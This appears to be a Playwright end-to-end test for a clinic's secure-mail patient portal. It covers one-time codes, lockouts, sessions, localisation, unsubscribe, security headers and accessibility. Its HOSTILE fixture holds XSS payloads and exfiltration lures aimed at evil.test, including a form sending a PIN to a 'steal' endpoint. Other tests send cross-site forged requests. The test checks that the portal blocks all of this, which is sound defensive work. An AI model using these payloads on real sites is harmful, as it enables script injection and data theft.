// The patient's pages in a browser, from the notice to the sign-out.
//
// Sends mails to recipients who get the portal, reads notices and codes from the local mailbox, behaves as a link
// scanner, as a phone and as a guesser, unsubscribes without scripts, and holds every page against WCAG 2.2 AA with axe. Mails carry hostile HTML: no
// script of theirs may run and no request may leave the portal. Prints `N passed, N failed`.
//
//   node portal.mjs '{"api":"http://127.0.0.1:1","portal":"…","mailbox":"…","api_key":"…"}'
//
// With SCREENSHOTS=<folder> it also keeps a picture of every page.

import { createHash, randomBytes } from "node:crypto";
import { mkdir } from "node:fs/promises";
import { createRequire } from "node:module";
import { readFile } from "node:fs/promises";
import { chromium } from "playwright-core";

const { api, portal, mailbox, api_key: apiKey } = JSON.parse(process.argv[2] ?? "{}");
if (!api || !portal || !mailbox || !apiKey) {
  console.error("Give the addresses and the API key as JSON: api, portal, mailbox, api_key.");
  process.exit(2);
}
const axeSource = await readFile(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const pictures = process.env.SCREENSHOTS;
if (pictures) await mkdir(pictures, { recursive: true });

let nPassed = 0;
let nFailed = 0;
function check(name, isTrue, detail = "") {
  if (isTrue) nPassed += 1;
  else nFailed += 1;
  console.log(`${isTrue ? "ok  " : "FAIL"} ${name}${isTrue || !detail ? "" : `: ${detail}`}`);
}

const sha256 = (octets) => createHash("sha256").update(octets).digest("hex");
const pause = (ms) => new Promise((done) => setTimeout(done, ms));

async function send(to, subject, html, attachments = [], more = {}) {
  const response = await fetch(`${api}/emails`, {
    method: "POST",
    headers: { authorization: `Bearer ${apiKey}`, "content-type": "application/json" },
    body: JSON.stringify({
      from: "Clinic <care@clinic.test>", to: [to], subject, html, attachments, security: { method: "portal" },
      ...more,
    }),
  });
  if (!response.ok) throw new Error(`POST /emails answered ${response.status}: ${await response.text()}`);
  return (await response.json()).id;
}

async function mails(to) {
  const response = await fetch(`${mailbox}/messages?to=${encodeURIComponent(to)}`);
  const list = await response.json();
  return Array.isArray(list) ? list : (list.messages ?? list.data ?? []);
}

// The mailbox's order is not relied on: what is new is what was not there before.
async function newMail(to, known) {
  for (let n = 0; n < 300; n += 1) {
    const found = (await mails(to)).find((mail) => !known.has(mail.id));
    if (found) {
      known.add(found.id);
      const raw = await (await fetch(`${mailbox}/messages/${found.id}/raw`)).text();
      return { raw, text: plain(raw) };
    }
    await pause(100);
  }
  throw new Error("no mail within 30 seconds");
}

// The first plain text of a mail.
function plain(raw) {
  const at = raw.search(/content-type:\s*text\/plain/i);
  const from = raw.indexOf("\r\n\r\n", at) + 4;
  const head = raw.slice(raw.lastIndexOf("\r\n\r\n", at) + 4, from);
  const end = raw.indexOf("\r\n--", from);
  const body = raw.slice(from, end < 0 ? undefined : end);
  if (/base64/i.test(head)) return Buffer.from(body, "base64").toString();
  if (!/quoted-printable/i.test(head) && !/quoted-printable/i.test(raw.slice(0, from))) return body;
  const octets = body.replace(/=\r\n/g, "").replace(/=([0-9A-F]{2})/gi, (_, hex) => String.fromCharCode(parseInt(hex, 16)));
  return Buffer.from(octets, "latin1").toString();
}

const linkOf = (mail) => mail.text.match(/https?:\/\/\S+\/m\/[A-Za-z0-9_-]+/)?.[0];
const codeOf = (mail) => mail.text.match(/\b(\d{4}) (\d{4})\b/)?.slice(1).join("");

// Every request of any page: none may leave the portal, and every answer must carry the headers.
const strays = [];
const consoleLines = [];
const lacking = new Set();
const HEADERS = ["content-security-policy", "cache-control", "referrer-policy", "x-content-type-options",
  "permissions-policy", "cross-origin-opener-policy", "strict-transport-security"];
async function watched(browser, options) {
  const context = await browser.newContext({ acceptDownloads: true, ...options });
  context.on("request", (request) => {
    const url = new URL(request.url());
    if (url.origin !== new URL(portal).origin && url.protocol !== "data:") strays.push(url.origin);
  });
  context.on("response", (response) => {
    // What comes from the browser's cache has lost some headers; files are looked at below.
    if (response.url().startsWith("data:") || response.url().includes("/assets/")) return;
    for (const name of HEADERS) if (!response.headers()[name]) lacking.add(`${name} at ${response.status()}`);
  });
  context.on("page", (page) => {
    page.on("console", (line) => consoleLines.push(line.text()));
    page.on("pageerror", (error) => consoleLines.push(String(error)));
    page.on("dialog", async (dialog) => {
      consoleLines.push(`dialog ${dialog.message()}`);
      await dialog.dismiss();
    });
  });
  return context;
}

let nPictures = 0;
async function audit(page, name) {
  // The page's own policy forbids scripts, so axe comes in through the debugger, which no policy binds.
  await page.evaluate(axeSource);
  const found = await page.evaluate(() => window.axe.run(document, {
    runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"], iframes: false,
  }));
  const told = found.violations.map((one) => `${one.id} (${one.nodes[0]?.html})`).join("; ");
  check(`${name}: no violation of WCAG 2.2 AA`, found.violations.length === 0, told);
  const isWide = await page.evaluate(() => document.documentElement.scrollWidth > document.documentElement.clientWidth);
  check(`${name}: nothing sticks out at the side`, !isWide);
  await keep(page, name);
}

async function keep(page, name) {
  nPictures += 1;
  const file = `${String(nPictures).padStart(2, "0")}-${name.replace(/\W+/g, "-")}.png`;
  if (pictures) await page.screenshot({ path: `${pictures}/${file}`, fullPage: true });
}

const PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
const SECRET = "Your haemoglobin is 13.9 g/dL";
const HOSTILE = `<p>Dear Robin,</p><p>${SECRET}.</p><p><img src="cid:mark" alt="Mark" width="16" height="16"></p>
<script>window.top.ran = 1; window.ran = 1; console.log("ran"); alert("ran")</script>
<img src="x" onerror="window.top.ran=1;console.log('ran');alert('ran')">
<img src="https://tracker.evil.test/pixel.gif" alt="remote picture">
<svg onload="alert('ran')"></svg><iframe src="https://evil.test/"></iframe>
<form action="https://evil.test/steal"><input name="pin"><button>Send</button></form>
<a href="javascript:alert('ran')">run</a> <a href="https://clinic.example/help">help</a>
<div style="position:fixed;inset:0;background:url(https://evil.test/b.png)">cover</div>
<style>@import url(https://evil.test/a.css); body{display:none}</style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>`;

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
  args: ["--no-sandbox", "--disable-quic", "--disable-gpu", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync"],
});
const PHONE = { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true, deviceScaleFactor: 2, locale: "en-US" };
const DESK = { viewport: { width: 1280, height: 900 }, locale: "en-US" };

try {
  const file = randomBytes(70_000);
  const name = "análisis de sangre.pdf";
  const to = `robin-${randomBytes(4).toString("hex")}@no-tls.test`;
  const known = new Set();
  await send(to, "Your blood test", HOSTILE, [
    { filename: name, content: file.toString("base64"), content_type: "application/pdf" },
    { filename: "page.html", content: Buffer.from("<script>alert('ran')</script>").toString("base64"), content_type: "text/html" },
    { filename: "mark.png", content: PIXEL, content_type: "image/png", content_id: "mark" },
  ]);
  const notice = await newMail(to, known);
  const link = linkOf(notice);
  check("the notice has a link", Boolean(link));
  check("the notice says nothing of the message", !notice.raw.includes("haemoglobin") && !notice.raw.includes("blood"));
  check("the link leads to the portal", link?.startsWith(portal.replace(/\/$/, "")));

  // A scanner: no cookies, many requests, every address that it can make up.
  const bodies = new Set();
  let isQuiet = true;
  for (let n = 0; n < 20; n += 1) {
    for (const method of ["GET", "HEAD"]) {
      const response = await fetch(link, { method, redirect: "manual", headers: { "user-agent": "LinkScanner/1.0" } });
      // API Gateway routes no HEAD to where GET leads; what counts is that it says and does nothing.
      isQuiet &&= (response.status === 200 || method === "HEAD") && !response.headers.get("set-cookie");
      const body = await response.text();
      if (method === "GET") bodies.add(body);
      for (const rest of ["/message", "/body", "/attachments/1"]) {
        const other = await fetch(link + rest, { method, redirect: "manual" });
        isQuiet &&= (other.status === 303 || method === "HEAD") && (await other.text()) === "" && !other.headers.get("set-cookie");
      }
    }
  }
  check("a scanner gets the same page every time, and no cookie", isQuiet && bodies.size === 1);
  const shown = [...bodies].join();
  check("the page of a link names the sender and nothing of the message",
    !shown.includes("haemoglobin") && !shown.includes("blood") && !shown.includes(to) && /<h1>[^<]*Clinic/.test(shown));
  await pause(500);
  check("a scanner causes no mail", (await mails(to)).length === 1);
  for (const method of ["GET", "HEAD"]) {
    const response = await fetch(`${link}/code`, { method, redirect: "manual" });
    check(`${method} sends no code`, response.status === 404 || response.status === 405);
  }

  // Links that are not good answer alike.
  const token = link.split("/").pop();
  const altered = `${link.slice(0, -6)}${link.at(-6) === "A" ? "B" : "A"}${link.slice(-5)}`;
  const unknown = `${portal}/m/${randomBytes(64).toString("base64url")}`;
  const answers = [];
  for (const address of [altered, unknown, `${portal}/m/short`, `${portal}/m/%ff%fe`, `${altered}/message`, `${unknown}/body`, `${unknown}/attachments/1`]) {
    const response = await fetch(address, { redirect: "manual" });
    const headers = [...response.headers].filter(([key]) => key !== "date" && key !== "x-amzn-requestid");
    answers.push(`${response.status} ${sha256(await response.text())} ${JSON.stringify(headers)}`);
  }
  check("unknown, altered and malformed links answer with the same octets", new Set(answers).size === 1 && answers[0].startsWith("404"), answers.join("\n"));

  // Forms of other sites.
  for (const headers of [{ origin: "https://evil.test" }, { origin: "null" }, { "sec-fetch-site": "cross-site" }]) {
    const response = await fetch(`${link}/code`, { method: "POST", redirect: "manual", headers });
    check(`a form of another site is refused (${Object.values(headers)[0]})`, response.status === 403);
  }

  // A phone: ask, mistype, enter, read.
  const phone = await watched(browser, PHONE);
  const page = await phone.newPage();
  await page.goto(link);
  await audit(page, "entry");
  check("the page is English", (await page.getAttribute("html", "lang")) === "en");
  await page.getByRole("button", { name: "Send me a code" }).click();
  await page.waitForURL(/step=sent/);
  const code = codeOf(await newMail(to, known));
  check("the mail with the code has 8 digits", /^\d{8}$/.test(code ?? ""));
  await audit(page, "enter");
  const field = page.getByLabel("One-time code", { exact: true });
  check("the field is for a one-time code",
    (await field.getAttribute("autocomplete")) === "one-time-code" && (await field.getAttribute("inputmode")) === "numeric");
  const cookies = await phone.cookies();
  check("cookies are out of reach of scripts and other sites",
    cookies.length > 0 && cookies.every((one) => one.httpOnly && one.sameSite === "Strict"), JSON.stringify(cookies));

  await field.fill("12");
  await page.getByRole("button", { name: "Open the message" }).click();
  check("a code that is too short is told so", (await page.getByRole("alert").textContent()).includes("8 digits"));
  const wrong = String((Number(code) + 1) % 100_000_000).padStart(8, "0");
  await field.fill(wrong);
  await page.getByRole("button", { name: "Open the message" }).click();
  check("a wrong code is a clear error", (await page.getByRole("alert").textContent()).includes("code is wrong"));
  check("the error is tied to the field",
    (await field.getAttribute("aria-invalid")) === "true" && (await field.getAttribute("aria-describedby")).includes("code-error"));
  await audit(page, "wrong code");

  // The right code, in another browser, is wrong.
  const thief = await watched(browser, DESK);
  const thiefPage = await thief.newPage();
  await thiefPage.goto(link);
  const stolen = await thiefPage.request.post(`${link}/open`, { form: { code }, maxRedirects: 0 });
  check("a code works only in the browser that asked", stolen.status() === 422 && !(await stolen.text()).includes("haemoglobin"));

  await field.fill(`${code.slice(0, 4)} ${code.slice(4)}`);
  await page.getByRole("button", { name: "Open the message" }).click();
  await page.waitForURL(/\/message$/);
  check("the right code opens the message", (await page.locator("h1").textContent()).trim() === "Your blood test");
  await page.frameLocator("iframe").locator("body").waitFor();
  const frameText = await page.frameLocator("iframe").locator("body").innerText();
  check("the frame has the text", frameText.includes(SECRET), frameText);
  check("the frame is sandboxed", !/allow-(scripts|same-origin|forms|top-navigation)/.test(await page.getAttribute("iframe", "sandbox")));
  const picture = page.frameLocator("iframe").locator('img[alt="Mark"]');
  check("the message's own picture is shown", (await picture.getAttribute("src")).startsWith("data:image/png;base64,"));
  check("and it loads", await picture.evaluate((img) => img.complete && img.naturalWidth === 1));
  check("the remote picture is not there", (await page.frameLocator("iframe").locator('img[alt="remote picture"]').getAttribute("src")) === null);
  await page.waitForTimeout(500);
  check("no script of the message ran", !(await page.evaluate(() => window.ran)) && !consoleLines.some((line) => line.includes("ran")), consoleLines.join("; "));
  check("the page has no script at all", (await page.locator("script").count()) === 0);
  await audit(page, "message");

  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name }).click()]);
  check("the attachment is whole", sha256(await readFile(await download.path())) === sha256(file));
  check("its name is whole", download.suggestedFilename() === name, download.suggestedFilename());
  const htmlLink = await page.getByRole("link", { name: "page.html" }).getAttribute("href");
  const htmlFile = await page.request.get(new URL(htmlLink, portal).href);
  check("a picture that the text shows is not listed once more", (await page.locator(".files li").count()) === 2);
  check("an HTML file is a download of octets",
    htmlFile.headers()["content-type"] === "application/octet-stream" && htmlFile.headers()["content-disposition"].startsWith("attachment"));
  check("there is no attachment beyond the last", (await page.request.get(`${link}/attachments/9`)).status() === 404);

  const again = await page.request.post(`${link}/open`, { form: { code }, maxRedirects: 0 });
  check("a code works once", again.status() === 422);

  // Both at the desk: the frame's page alone, the dark scheme.
  const desk = await watched(browser, { ...DESK, storageState: await phone.storageState() });
  const deskPage = await desk.newPage();
  await deskPage.goto(`${link}/message`);
  await audit(deskPage, "message at a desk");
  await deskPage.emulateMedia({ colorScheme: "dark" });
  await audit(deskPage, "message in the dark");
  await deskPage.emulateMedia({ colorScheme: "light" });
  await deskPage.goto(`${link}/body`);
  check("the text opens in a tab of its own", (await deskPage.locator("body").innerText()).includes(SECRET));
  await keep(deskPage, "body alone");
  const policy = (await deskPage.request.get(`${link}/body`)).headers()["content-security-policy"];
  check("the body has a policy of its own", policy.includes("default-src 'none'") && /sandbox/.test(policy) && !/allow-scripts/.test(policy));

  // Leaving.
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.waitForURL(/step=left/);
  check("signing out says so", (await page.getByRole("status").textContent()).includes("signed out"));
  await audit(page, "signed out");
  await page.goBack();
  check("going back shows nothing of the message", !(await page.content()).includes("Your blood test") && !page.url().endsWith("/message"));
  await deskPage.goto(`${link}/message`);
  check("the session is closed on the server", deskPage.url().includes("step=over"));
  await audit(deskPage, "session over");

  // A second link: guessing locks it.
  const second = `robin-${randomBytes(4).toString("hex")}@no-tls.test`;
  const knownSecond = new Set();
  await send(second, "A second message", "<p>Text</p>");
  const secondLink = linkOf(await newMail(second, knownSecond));
  const guesser = await watched(browser, PHONE);
  const guessing = await guesser.newPage();
  await guessing.goto(secondLink);
  await guessing.getByRole("button", { name: "Send me a code" }).click();
  await guessing.waitForURL(/step=sent/);
  const secondCode = codeOf(await newMail(second, knownSecond));
  for (let n = 1; n <= 5; n += 1) {
    await guessing.getByLabel("One-time code", { exact: true }).fill(String((Number(secondCode) + n) % 100_000_000).padStart(8, "0"));
    await guessing.getByRole("button", { name: "Open the message" }).click();
  }
  check("five wrong codes lock the message", (await guessing.locator("h1").textContent()).includes("locked"));
  check("and tell until when", /60 minutes, after \d+:\d\d [AP]M UTC/.test(await guessing.locator("main").textContent()));
  await audit(guessing, "locked");
  await guessing.emulateMedia({ colorScheme: "dark" });
  await audit(guessing, "locked in the dark");
  const late = await guessing.request.post(`${secondLink}/open`, { form: { code: secondCode }, maxRedirects: 0 });
  check("the right code does not open a locked message", late.status() === 429);
  const more = await guessing.request.post(`${secondLink}/code`, { maxRedirects: 0 });
  check("nor is a new code sent", more.status() === 429 && (await mails(second)).length === 2);

  const third = `robin-${randomBytes(4).toString("hex")}@no-tls.test`;
  const knownThird = new Set();
  await send(third, "A third message", "<p>Texto</p>");
  const thirdLink = linkOf(await newMail(third, knownThird));

  // Spanish, by the browser's language and by the switch.
  const spanish = await watched(browser, { ...PHONE, locale: "es-MX" });
  const page3 = await spanish.newPage();
  await page3.goto(thirdLink);
  check("a Spanish browser gets Spanish", (await page3.getAttribute("html", "lang")) === "es" && (await page3.locator("h1").textContent()).includes("Un mensaje seguro de"));
  await audit(page3, "entrada");
  await page3.getByRole("link", { name: "English" }).click();
  check("the switch leads to English", (await page3.getAttribute("html", "lang")) === "en");
  await page3.goto(thirdLink);
  check("and stays", (await page3.getAttribute("html", "lang")) === "en");
  await page3.getByRole("link", { name: "Español" }).click();
  await page3.getByRole("button", { name: "Enviarme un código" }).click();
  await page3.waitForURL(/step=sent/);
  check("the language outlives a form", (await page3.getAttribute("html", "lang")) === "es");
  await audit(page3, "código");
  for (let n = 2; n <= 5; n += 1) {
    await page3.getByRole("button", { name: "Enviar un código nuevo" }).click();
    await page3.waitForLoadState();
  }
  await page3.getByRole("button", { name: "Enviar un código nuevo" }).click();
  check("a sixth code within the hour has to wait", (await page3.getByRole("alert").textContent()).includes("demasiados códigos"));
  await audit(page3, "esperar");

  // Time: the session ends, then the message.
  const fourth = `robin-${randomBytes(4).toString("hex")}@no-tls.test`;
  const knownFourth = new Set();
  await send(fourth, "A fourth message", "<p>Text</p>");
  const fourthLink = linkOf(await newMail(fourth, knownFourth));
  const slow = await watched(browser, DESK);
  const slowPage = await slow.newPage();
  await slowPage.goto(fourthLink);
  await slowPage.getByRole("button", { name: "Send me a code" }).click();
  await slowPage.waitForURL(/step=sent/);
  await slowPage.getByLabel("One-time code", { exact: true }).fill(codeOf(await newMail(fourth, knownFourth)));
  await slowPage.keyboard.press("Enter");
  await slowPage.waitForURL(/\/message$/);
  const opened = await slowPage.reload();
  const refresh = Number(opened.headers().refresh?.split(";")[0]);
  check("the page closes itself when the session ends", refresh > 600 && refresh <= 901, String(refresh));
  await slowPage.goto(fourthLink);
  check("the link leads to the message while the session is open", slowPage.url().endsWith("/message"));
  const advance = (by) => fetch(`${mailbox}/clock`, {
    method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ advance: by }),
  });
  await advance("PT15M");
  await slowPage.reload();
  check("a session of 15 minutes is over then", slowPage.url().includes("step=over") && !(await slowPage.content()).includes("fourth"));
  await advance("P31D");
  const expired = await fetch(fourthLink);
  const never = await fetch(unknown);
  check("an expired link answers like an unknown one",
    expired.status === 404 && sha256(await expired.text()) === sha256(await never.text()));

  // The way out of marketing, in a browser that runs no scripts at all.
  const reader = `nora-${randomBytes(4).toString("hex")}@patient.test`;
  const news = { purpose: "marketing", data_class: "none", security: { method: "auto" } };
  await send(reader, "News", "<p>News</p>", [], news);
  const wayOut = (await newMail(reader, new Set())).text.match(/https?:\/\/\S+\/u\/[A-Za-z0-9_-]+/)?.[0];
  const isSuppressed = async () => (await fetch(`${api}/suppressions/${reader}`, {
    headers: { authorization: `Bearer ${apiKey}` },
  })).ok;
  const still = await watched(browser, { ...DESK, javaScriptEnabled: false });
  const outPage = await still.newPage();
  await outPage.goto(wayOut);
  check("looking at the way out changes nothing", !(await isSuppressed()));
  await outPage.getByRole("button", { name: "Unsubscribe me" }).click();
  check("the way out works without scripts", (await outPage.locator("h1").textContent()).includes("You are unsubscribed"));
  check("it takes effect at once", await isSuppressed());
  const lively = await watched(browser, DESK);
  const lookPage = await lively.newPage();
  await lookPage.goto(wayOut);
  await audit(lookPage, "unsubscribe");
  await lookPage.getByRole("button", { name: "Unsubscribe me" }).click();
  await audit(lookPage, "unsubscribed");

  // The pages without a message.
  const desk2 = await watched(browser, DESK);
  const plainPage = await desk2.newPage();
  await plainPage.goto(`${portal}/`);
  await audit(plainPage, "home");
  await plainPage.goto(unknown);
  check("a wrong link has a page", (await plainPage.locator("h1").textContent()).includes("does not work"));
  await audit(plainPage, "wrong link");
  await plainPage.emulateMedia({ colorScheme: "dark" });
  await audit(plainPage, "wrong link in the dark");
  await plainPage.keyboard.press("Tab");
  check("the first stop of the keyboard skips to the content", (await plainPage.evaluate(() => document.activeElement.className)) === "skip");

  check("no request left the portal", strays.length === 0, strays.join(", "));
  for (const name of ["portal.css", "icon.svg"]) {
    const response = await fetch(`${portal}/assets/${name}`);
    check(`${name} has its headers`, response.ok && HEADERS.every((header) => response.headers.get(header)));
  }
  check("every answer has its headers", lacking.size === 0, [...lacking].join(", "));
  check("the link's secret stays out of the pages of wrong links", !answers.join().includes(token));
} catch (error) {
  check("the run reaches its end", false, String(error?.stack ?? error));
} finally {
  await browser.close();
}
console.log(`${nPassed} passed, ${nFailed} failed`);
process.exit(nFailed === 0 ? 0 : 1);
